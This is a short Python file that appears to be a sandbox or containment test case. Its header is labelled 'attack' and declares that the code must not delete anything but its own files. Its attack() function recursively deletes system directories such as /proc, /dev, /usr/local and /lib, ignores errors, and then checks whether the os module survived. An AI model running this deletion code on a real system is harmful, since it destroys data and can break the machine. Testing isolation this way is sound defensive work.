# /// attack
# must-not = "delete anything but its own files"
# allowed = ["ok", "error", "timeout"]
# returns = "True"
# ///
import os
import shutil


def attack():
    for root in ("/proc", "/dev", "/usr/local", "/couplet", "/lib"):
        shutil.rmtree(root, ignore_errors=True)
    return os.path.exists(os.__file__)
